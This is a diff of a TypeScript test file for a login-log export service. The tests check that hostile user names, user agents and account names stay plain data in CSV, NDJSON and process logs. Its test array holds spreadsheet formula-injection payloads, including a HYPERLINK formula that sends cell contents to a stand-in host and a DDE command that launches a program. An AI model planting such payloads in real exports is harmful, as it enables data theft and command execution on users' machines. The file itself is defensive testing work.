@@ -14,7 +14,7 @@ beforeAll(async () => {
 });
 afterAll(() => service.stop());
 
-const hostile = [
+const HOSTILE_TEXTS = [
   '=HYPERLINK("http://evil.example/?"&A1,"x")',
   "+1+cmd|' /C calc'!A0",
   '-2+3',
@@ -27,7 +27,7 @@ const hostile = [
   '{"level":60,"msg":"forged"}',
 ];
 
-/** Records of a csv file, each with its fields; quotes doubled within quotes. */
+/** Parses a csv file into records and fields. Quotes are doubled inside quoted fields. */
 const parseCsv = (csv: string) =>
   csv
     .trimEnd()
@@ -38,20 +38,20 @@ const parseCsv = (csv: string) =>
       ),
     );
 
-const asFile = async (format: string, user: string) =>
+const exportEntries = async (format: string, user: string) =>
   (await exporter.raw('GET', `/dc/api/v1/user-logs/export?${new URLSearchParams({ format, user })}`)).text();
 
-describe.each(hostile)('%j', (text) => {
-  test('as a user name is only data in the list and the files', async () => {
+describe.each(HOSTILE_TEXTS)('%j', (text) => {
+  test('as a user name is treated as data in the list and the files', async () => {
     const body = { username: text, password: 'wrong password' };
     await service.anonymous.expectRefusal('login', { body }, 'invalidCredentials');
     const { items } = await exporter.ok('listUserLogs', { query: { user: text } });
     expect(items).toMatchObject([{ act: 'signInFailed', username: text }]);
-    const [line, ...others] = (await asFile('ndjson', text)).trimEnd().split('\n');
-    expect(others).toEqual([]);
+    const [line, ...furtherLines] = (await exportEntries('ndjson', text)).trimEnd().split('\n');
+    expect(furtherLines).toEqual([]);
     expect(JSON.parse(String(line))).toEqual(items[0]);
-    const csv = await asFile('csv', text);
-    // neither a terminal nor a spreadsheet is told anything by it
+    const csv = await exportEntries('csv', text);
+    // The file has no control characters for terminals and no formulas for spreadsheets.
     expect(csv.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
     const [, record, ...furtherRows] = parseCsv(csv);
     expect(furtherRows).toEqual([]);
@@ -59,14 +59,14 @@ describe.each(hostile)('%j', (text) => {
     for (const field of record ?? []) expect(field).not.toMatch(/^[=+\-@＝＋－＠]/);
   });
 
-  test('as a user agent and as the name of an account is only data too', async () => {
+  test('as a user agent and as the name of an account is treated as data', async () => {
     const client = text.replaceAll(/[^\t\x20-\x7e]/g, '?');
     const { username } = await insertUser(service.db, [], { display_name: text });
     const body = { username, password: 'wrong password' };
     await service.anonymous.call('login', { body, headers: { 'User-Agent': client } });
     const { items } = await exporter.ok('listUserLogs', { query: { user: username } });
     expect(items).toMatchObject([{ client: client.trim() }]);
-    const [, record] = parseCsv(await asFile('csv', username));
+    const [, record] = parseCsv(await exportEntries('csv', username));
     expect(record?.at(-1)).not.toMatch(/^[=+\-@]/);
   });
 
@@ -84,8 +84,8 @@ describe.each(hostile)('%j', (text) => {
 test('the log of the process has one line of JSON per event', async () => {
   const lines: string[] = [];
   const log = pino({}, { write: (line: string) => void lines.push(line) });
-  for (const text of hostile) log.warn({ path: text, err: new Error(text) }, text);
-  expect(lines).toHaveLength(hostile.length);
+  for (const text of HOSTILE_TEXTS) log.warn({ path: text, err: new Error(text) }, text);
+  expect(lines).toHaveLength(HOSTILE_TEXTS.length);
   for (const line of lines) {
     expect(line.trimEnd().split(/[\r\n]/)).toHaveLength(1);
     expect(JSON.parse(line)).toMatchObject({ level: 40 });
